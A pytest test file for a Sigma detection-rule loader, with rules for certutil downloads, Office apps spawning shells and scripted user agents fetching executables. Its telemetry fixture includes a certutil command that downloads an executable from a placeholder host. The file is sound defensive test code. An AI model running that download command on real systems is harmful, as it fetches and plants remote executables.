"""Loading Sigma rules: files, errors with positions, unsupported features, the field map."""

from __future__ import annotations

import textwrap
from pathlib import Path

import polars as pl
import pytest

from watchkeeper.detect.sigma_fields import load_fieldmap, parse_fieldmap
from watchkeeper.detect.sigma_hits import rules_test
from watchkeeper.detect.sigma_rules import load_rules, parse_rules
from watchkeeper.errors import ConfigError, InvalidInput

# Our own rules, in the style of community process_creation / proxy rules.
CERTUTIL = """\
title: Certutil downloading a file
id: 5d0c1a61-3a57-4f5e-9d4a-0c6f8e9b2a10
status: experimental
description: certutil used as a downloader (living off the land)
level: high
tags: [attack.command-and-control, attack.t1105]
logsource: {category: process_creation, product: windows}
detection:
  selection_img:
    - Image|endswith: '\\certutil.exe'
    - OriginalFileName: CertUtil.exe
  selection_cli:
    CommandLine|contains|all: ['urlcache', 'http']
  condition: all of selection_*
"""

OFFICE_SHELL = """\
title: Office application starting a shell
id: 8f1e6b2c-7d4a-4c3b-a1e2-3f4d5c6b7a80
level: medium
logsource: {category: process_creation, product: windows}
detection:
  parent:
    ParentImage|endswith: ['\\winword.exe', '\\excel.exe', '\\powerpnt.exe']
  child:
    Image|endswith: ['\\cmd.exe', '\\powershell.exe', '\\wscript.exe']
  filter_updater:
    CommandLine|contains: 'OfficeUpdater'
  condition: parent and child and not filter_updater
"""

PROXY = """\
title: Scripted user agent fetching an executable
id: 0b7e4f1a-2c3d-4e5f-8a9b-1c2d3e4f5a6b
level: low
logsource: {category: proxy}
detection:
  agent:
    c-useragent|startswith: ['curl/', 'python-requests/', 'Wget/']
  target:
    c-uri|endswith: ['.exe', '.dll', '.ps1']
  condition: agent and target
"""


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def telemetry() -> pl.DataFrame:
    rows = [
        {
            "event.dataset": "sysmon",
            "event.code": "1",
            "process.executable": r"C:\Windows\System32\certutil.exe",
            "process.command_line": "certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe",
            "process.parent.executable": r"C:\Windows\System32\cmd.exe",
            "log.file.path": "sysmon.jsonl",
            "log.file.line": 3,
        },
        {
            "event.dataset": "sysmon",
            "event.code": "1",
            "process.executable": r"C:\Windows\System32\cmd.exe",
            "process.command_line": "cmd.exe /c calc",
            "process.parent.executable": r"C:\Program Files\Microsoft Office\WINWORD.EXE",
            "log.file.path": "sysmon.jsonl",
            "log.file.line": 4,
        },
        {
            "event.category": "web",
            "event.dataset": "proxy.squid",
            "user_agent.original": "curl/8.5.0",
            "url.full": "http://198.51.100.7/payload.EXE",
            "log.file.path": "access.log",
            "log.file.line": 10,
        },
    ]
    return pl.DataFrame(rows, infer_schema_length=None)


def test_directory_loads_recursively_sorted_and_realistic_rules_fire(tmp_path: Path) -> None:
    write(tmp_path, "b/office.yaml", OFFICE_SHELL)
    write(tmp_path, "a/certutil.yml", CERTUTIL)
    write(tmp_path, "proxy.yml", PROXY)
    write(tmp_path, "notes.txt", "not a rule")
    loaded = load_rules(paths=[tmp_path])
    assert not loaded.errors
    assert [rule.title for rule in loaded] == [
        "Certutil downloading a file",
        "Office application starting a shell",
        "Scripted user agent fetching an executable",
    ]
    certutil = loaded.rules[0]
    assert certutil.level == "high"
    assert certutil.tags == ("attack.command-and-control", "attack.t1105")
    assert certutil.logsource == {"category": "process_creation", "product": "windows"}
    results = {r.title: r for r in rules_test(rules=loaded, frame=telemetry())}
    assert results["Certutil downloading a file"].events == (("sysmon.jsonl", 3),)
    assert results["Certutil downloading a file"].status == "fired"
    assert results["Office application starting a shell"].events == (("sysmon.jsonl", 4),)
    assert results["Scripted user agent fetching an executable"].events == (("access.log", 10),)
    # OriginalFileName has no column in this telemetry: said, not hidden.
    assert results["Certutil downloading a file"].missing_fields == ("OriginalFileName",)


def test_invalid_yaml_names_file_line_and_column(tmp_path: Path) -> None:
    write(tmp_path, "good.yml", CERTUTIL)
    bad = write(tmp_path, "bad.yml", "title: x\ndetection:\n  sel: [unclosed\n  condition: sel\n")
    loaded = load_rules(paths=[tmp_path])
    assert [rule.title for rule in loaded] == ["Certutil downloading a file"]
    (error,) = loaded.errors
    assert error.fields["file"] == str(bad)
    assert error.fields["line"] == 4
    assert str(error).startswith(f"{bad}:4:")
    with pytest.raises(InvalidInput, match=r"bad\.yml:4:"):
        load_rules(paths=[tmp_path], strict=True)


def test_invalid_rule_names_rule_and_detection_key() -> None:
    text = CERTUTIL.replace("CommandLine|contains|all", "CommandLine|contians|all")
    loaded = parse_rules(text=OFFICE_SHELL + "---\n" + text, name="rules.yml")
    assert [rule.title for rule in loaded] == ["Office application starting a shell"]
    (error,) = loaded.errors
    assert error.fields["detection"] == "selection_cli"
    assert error.fields["line"] == 25  # counted over both documents
    assert "Certutil downloading a file" in str(error)
    assert "contians" in str(error)


def test_undefined_condition_reference_is_an_error() -> None:
    loaded = parse_rules(
        text=CERTUTIL.replace("all of selection_*", "selection_img and nope"), name="r.yml"
    )
    (error,) = loaded.errors
    assert error.fields["detection"] == "condition"
    assert "nope" in str(error)


def test_regex_the_sigma_policy_refuses_is_an_error() -> None:
    text = CERTUTIL.replace(
        "CommandLine|contains|all: ['urlcache', 'http']", "CommandLine|re: '(?<=x)y'"
    )
    (error,) = parse_rules(text=text, name="r.yml").errors
    assert error.fields["detection"] == "selection_cli"
    assert str(error).startswith("r.yml:12:")


def test_missing_path_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="no such rule file"):
        load_rules(paths=[tmp_path / "absent"])


UNSUPPORTED = [
    (
        "aggregation",
        CERTUTIL.replace(
            "condition: all of selection_*", "condition: selection_img | count() by Computer > 5"
        ),
        "aggregation",
    ),
    (
        "expand",
        CERTUTIL.replace("CommandLine|contains|all", "CommandLine|expand|contains|all").replace(
            "'urlcache'", "'%ProgramFiles%'"
        ),
        "|expand",
    ),
    (
        "unknown logsource",
        CERTUTIL.replace("category: process_creation, ", "").replace(
            "product: windows", "product: mainframe"
        ),
        "no field mapping for logsource product=mainframe",
    ),
    (
        "fieldref",
        CERTUTIL.replace(
            "CommandLine|contains|all: ['urlcache', 'http']", "CommandLine|fieldref: Image"
        ),
        "fieldref",
    ),
]


@pytest.mark.parametrize(
    ("text", "reason"), [u[1:] for u in UNSUPPORTED], ids=[u[0] for u in UNSUPPORTED]
)
def test_unsupported_features_are_reported_per_rule(text: str, reason: str) -> None:
    loaded = parse_rules(text=text, name="r.yml")
    assert not loaded.errors
    (rule,) = loaded.rules
    assert not rule.supported and rule.plan is None
    assert any(reason in why for why in rule.unsupported), rule.unsupported
    (result,) = rules_test(rules=loaded, frame=telemetry())
    assert result.status == "unsupported" and result.events == ()


def test_correlation_rule_is_reported_unsupported() -> None:
    correlation = textwrap.dedent(
        """\
        title: Many certutil downloads
        name: many_certutil
        correlation:
          type: event_count
          rules: [5d0c1a61-3a57-4f5e-9d4a-0c6f8e9b2a10]
          group-by: [Computer]
          timespan: 1h
          condition: {gte: 10}
        """
    )
    loaded = parse_rules(text=CERTUTIL + "---\n" + correlation, name="c.yml")
    assert not loaded.errors
    assert [r.supported for r in loaded] == [True, False]
    assert "correlation rule (event_count)" in loaded.rules[1].unsupported[0]


def test_shipped_fieldmap_loads_and_resolves() -> None:
    fieldmap = load_fieldmap()
    process = fieldmap.resolve(category="process_creation", product="windows", service=None)
    assert process is not None and process.name == "process_creation"
    assert process.columns("Image") == ("process.executable",)
    assert process.columns("Computer") == ("host.name",)  # from the default section
    assert process.columns("Product") == ("winlog.event_data.Product",)  # windows fallback
    linux = fieldmap.resolve(category="process_creation", product="linux", service=None)
    assert linux is not None and linux.columns("Product") == ("Product",)
    sysmon = fieldmap.resolve(category=None, product="windows", service="sysmon")
    assert sysmon is not None and sysmon.name == "sysmon"
    assert fieldmap.resolve(category="nothing", product=None, service=None) is None
    for name in [
        "proxy",
        "webserver",
        "firewall",
        "dns",
        "dns_query",
        "authentication",
        "file_event",
        "registry_set",
        "network_connection",
    ]:
        assert fieldmap.resolve(category=name, product=None, service=None) is not None, name


@pytest.mark.parametrize(
    ("document", "key"),
    [
        ({"version": 2, "logsources": {}}, "version"),
        (
            {"version": 1, "logsources": {"x": {"match": {"colour": "red"}, "rows": [{"a": "b"}]}}},
            "logsources.x.match",
        ),
        (
            {"version": 1, "logsources": {"x": {"match": {"category": "c"}, "rows": []}}},
            "logsources.x.rows",
        ),
        (
            {
                "version": 1,
                "logsources": {
                    "x": {"match": {"category": "c"}, "rows": [{"a": "b"}], "fields": {"F": 3}}
                },
            },
            "logsources.x.fields.F",
        ),
        (
            {
                "version": 1,
                "fallback": {"windows": "no-placeholder"},
                "logsources": {"x": {"match": {"category": "c"}, "rows": [{"a": "b"}]}},
            },
            "fallback",
        ),
        ({"version": 1, "extra": 1, "logsources": {}}, "extra"),
    ],
)
def test_bad_fieldmap_names_the_key(document: dict[str, object], key: str) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_fieldmap(data=document, source="fieldmap.yaml")
    assert caught.value.fields["setting"] == key
    assert f"fieldmap.yaml: {key}:" in str(caught.value)


def test_fieldmap_file_with_bad_yaml_names_the_line(tmp_path: Path) -> None:
    path = write(tmp_path, "map.yaml", "version: 1\nlogsources: {\n")
    with pytest.raises(ConfigError, match=r"map\.yaml:3:"):
        load_fieldmap(path=path)
